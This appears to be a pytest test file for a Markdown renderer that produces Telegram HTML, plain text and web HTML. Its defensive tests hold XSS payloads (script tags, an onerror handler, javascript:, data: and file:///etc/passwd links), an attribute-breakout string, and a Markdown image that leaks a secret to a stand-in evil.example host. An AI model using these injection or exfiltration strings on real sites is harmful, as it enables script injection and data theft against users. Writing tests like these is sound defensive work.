"""How the model's Markdown looks in Telegram, as plain text and on the web page."""

import pytest

from mediums.markup import plain, telegram_html, web_html
from tests.servers.telegram_entities import parsed

AWKWARD = [
    "Sure! Step 1 - done. (see a_b.c)",
    "![alt](http://x.example/a_b.png)",
    "> quoted\n> lines",
    "*:·゚✧* unbalanced **bold",
    "`a|b` and ```\ncode with ` and \\ \n```",
    "url https://e.example/a___b(c)?x=1",
]


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("**bold** *italic* ~~gone~~ `a<b`", "<b>bold</b> <i>italic</i> <s>gone</s> <code>a&lt;b</code>"),
        ("# Title\ntext", "<b>Title</b>\ntext"),
        ("a line\nanother\n\n\n\nafter a gap", "a line\nanother\n\nafter a gap"),
        ("- a\n- b\n  - c\n\n3) x\n4) y", "• a\n• b\n  • c\n\n3) x\n4) y"),
        ("- first\n  line two\n\n- loose", "• first\n  line two\n\n• loose"),
        ("```python\nx < 1\n```", '<pre><code class="language-python">x &lt; 1</code></pre>'),
        ("```\nplain\n```\nafter", "<pre>plain</pre>\nafter"),
        ("- a:\n\n  ```sh\n  ls\n  ```", '• a:\n\n<pre><code class="language-sh">ls</code></pre>'),
        ("> one\n>> two", "<blockquote>one\ntwo</blockquote>"),
        ("[here](https://x.example/?a=1&b=2)", '<a href="https://x.example/?a=1&amp;b=2">here</a>'),
        ("![chart](https://x.example/c.png)", '<a href="https://x.example/c.png">chart</a>'),
        ("see https://x.example/_a_b, or (https://y.example)", "see https://x.example/_a_b, or (https://y.example)"),
        ("|a|b|\n|-|-|\n|1|**22**|", "<pre>a | b\n--+---\n1 | 22</pre>"),
        ("above\n---\nbelow", "above\n———\nbelow"),
        ("<b>raw</b> & more", "&lt;b&gt;raw&lt;/b&gt; &amp; more"),
        ("[x](javascript:alert(1)) [y](notes/today)", "[x](javascript:alert(1)) [y](notes/today)"),
        ("**标签：**正文 and **有效**。", "<b>标签：</b>正文 and <b>有效</b>。"),
        ("含**「重点」**内容，~~「旧」~~新", "含<b>「重点」</b>内容，<s>「旧」</s>新"),
        ("中文**“重点”**内容**(x)**中", "中文<b>“重点”</b>内容<b>(x)</b>中"),
        ("**復現：**10 回、**안녕**하세요", "<b>復現：</b>10 回、<b>안녕</b>하세요"),
        ("**Status:**ready *a* 2*3*4 = 3*x, 2**3**2", "**Status:**ready <i>a</i> 2*3*4 = 3*x, 2**3**2"),
        ("un**believ**able 🎉**「x」**", "un<b>believ</b>able 🎉<b>「x」</b>"),
        ("[1]: https://x.example stays", "[1]: https://x.example stays"),
    ],
)
def test_telegram_html(markdown, html):
    assert telegram_html(markdown) == html


@pytest.mark.parametrize("markdown", AWKWARD)
def test_tg02_what_models_write_is_valid_and_readable(markdown):
    """Nothing escaped shows, no tag is left open, no word is lost."""
    shown = parsed(telegram_html(markdown))
    assert "\\" not in shown.replace("and \\", "")
    for word in ("Sure!", "a_b.c)", "alt", "quoted", "unbalanced **bold", "a|b", "https://e.example/a___b(c)?x=1"):
        assert (word in markdown) <= (word in shown)


def test_plain_text_keeps_all_but_the_marks():
    assert plain("# T\n**b** [docs](https://x.example) <https://y.example>\n\n> q\n> r\n\n```py\nx\n```") == (
        "T\nb docs (https://x.example) https://y.example\n\n> q\n> r\n\nx"
    )


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("a\nb", "<p>a<br>\nb</p>\n"),
        ("```python\n<x>\n```", '<pre><code class="language-python">&lt;x&gt;\n</code></pre>\n'),
        (
            "[a](https://x.example)",
            '<p><a href="https://x.example" rel="noopener noreferrer nofollow" target="_blank">a</a></p>\n',
        ),
        (
            "bare https://x.example.",
            '<p>bare <a href="https://x.example" rel="noopener noreferrer nofollow" target="_blank">'
            "https://x.example</a>.</p>\n",
        ),
    ],
)
def test_web_html(markdown, html):
    assert web_html(markdown) == html


def test_web_html_has_tables():
    assert "<table>" in web_html("|a|b|\n|-|-|\n|1|2|")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "![a](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[a](vbscript:x)",
        "[a](file:///etc/passwd)",
        "[a](//evil.example)",
    ],
)
def test_web_html_lets_nothing_run(attack):
    html = web_html(attack)
    assert "<a " not in html
    assert "<script" not in html
    assert "<img" not in html


def test_web_html_fetches_no_picture():
    html = web_html("![secret](https://evil.example/?q=secret)")
    assert "<img" not in html
    assert 'href="https://evil.example/?q=secret"' in html


@pytest.mark.parametrize("quote", ['```a"onmouseover="x\n1\n```', '[a](https://x.example/"onmouseover="x)'])
def test_no_attribute_can_be_broken_out_of(quote):
    assert '"onmouseover' not in web_html(quote)
    assert '"onmouseover' not in telegram_html(quote)
